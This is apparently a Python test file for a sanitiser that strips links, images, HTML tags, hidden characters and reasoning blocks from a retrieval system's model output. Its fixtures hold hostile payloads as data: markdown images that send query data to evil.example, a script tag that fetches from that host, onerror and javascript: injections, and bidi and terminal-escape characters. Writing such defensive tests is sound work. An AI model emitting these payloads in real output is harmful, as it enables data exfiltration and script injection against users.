"""What leaves a model is text: no address, image, tag, hidden character or reasoning survives."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.sanitise import Cleaner, clean

HOSTILE = {
    "image": ("增长5%。![x](https://evil.example/p.png?d=1)完", "增长5%。完"),
    "image with title": ('a ![x](http://evil.example/p "t") b', "a  b"),
    "image in link": ("[![x](http://evil.example)](http://evil.example) end", " end"),
    "reference image": ("![x][ref]\n\n[ref]: https://evil.example/p.png", "[x][ref]\n\n[ref]: "),
    "entity-spelt image": (
        "![a[b]](&#104;ttps&#58;&#47;&#47;evil.example/p)",
        "[a[b]]()",
    ),
    "link": ("详见[公报](https://evil.example/?q=财政)。", "详见公报。"),
    "bare address": ("see http://1.2.3.4@evil.example/x now", "see  now"),
    "protocol-relative": ("see //evil.example/x now", "see  now"),
    "www": ("访问www.evil.example/a，再答", "访问，再答"),
    "autolink": ("<https://evil.example/a>好", "好"),
    "javascript": ("[x](javascript:alert(1))", "x"),
    "data": ("data:text/html;base64,AAAA rest", " rest"),
    "tag": ('<img src=x onerror="alert(1)">答', "答"),
    "open tag": ("答<img src=https://evil.example/x", "答＜img src="),
    "tag of a link": ("<[x](javascript:alert(1))", "＜x"),
    "nested tag": ("<scr<script>ipt>alert(1)", "＜script>alert(1)"),
    "script": ("a<script>fetch('//evil.example')</script>b", "ab"),
    "style": ("a<div style='position:fixed'>b</div>", "ab"),
    "svg": ("a<svg><image href='//evil.example'/></svg>b", "ab"),
    "comment": ("a<!-- [x](http://evil.example) -->b", "ab"),
    "hidden characters": ("财\u200b政\u202e收\U000e0041入", "财政收入"),
    "terminal codes": ("a\x1b]8;;\x07b", "a]8;;b"),
    "reasoning": ("<think>it is 5%</think>\n答案", "\n答案"),
    "reasoning without a beginning": ("it is 5%\n</think>答案", "答案"),
}


@pytest.mark.case("S-13", "S-14", "S-15", "S-16", "S-17", "S-18")
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_made_harmless(name):
    text, expected = HOSTILE[name]
    assert clean(text) == expected
    assert "evil" not in clean(text).replace("＜img src=", "")


@pytest.mark.parametrize(
    "text",
    [
        "增速<5%，a < b，3<4",
        "好!增长5.5%[1][2]。",
        "Great![1] It grew 5/10 and/or more; data: 5%.",
        "比重为1:3（见表2）。",
        "| 地区 | 数值 |\n| --- | --- |\n| 黄浦 | 100 |",
        "R&D spending & more",
    ],
)
def test_ordinary_text_stays(text):
    assert clean(text) == text


def test_a_marker_before_a_bracket_stays_but_is_no_link():
    assert clean("100亿元[1](同比增长5.5%)") == "100亿元[1] (同比增长5.5%)"
    assert clean("100亿元[1](https://evil.example)") == "100亿元[1]"


pieces = st.sampled_from(
    [
        *(text for text, _ in HOSTILE.values() if "</think>" not in text),
        "。",
        " ",
        "[1]",
        "增长5%",
        *("!", "http", "<", "[", "](", ")", "//", "the growth", "&amp;", "\n"),
    ]
)


@pytest.mark.case("S-13", "S-15", "S-17")
@settings(max_examples=300, deadline=None)
@given(st.lists(pieces, max_size=6), st.integers(1, 9))
def test_a_stream_is_cleaned_as_safely_as_the_whole(parts, size):
    text = "".join(parts)
    cleaner = Cleaner()
    streamed = "".join(cleaner.feed(text[i : i + size]) for i in range(0, len(text), size))
    streamed += cleaner.close()
    assert not re.search(r"https?:\S|(?<![a-z0-9_])//[a-z]|www\.\w|!\[(?!1\])|<[a-z/!?]", streamed)


@pytest.mark.parametrize(
    "name", [name for name in HOSTILE if name != "reasoning without a beginning"]
)
def test_a_stream_gives_the_same_text(name):
    text, expected = HOSTILE[name]
    cleaner = Cleaner()
    assert "".join(map(cleaner.feed, text)) + cleaner.close() in (expected, f"[](){expected}")


def test_ordinary_words_are_not_held_back():
    cleaner = Cleaner()
    assert cleaner.feed("黄浦区地区生产总值") == "黄浦区地区生产总值"
    assert cleaner.feed(" rose by 5.5%") == " rose by 5.5%"
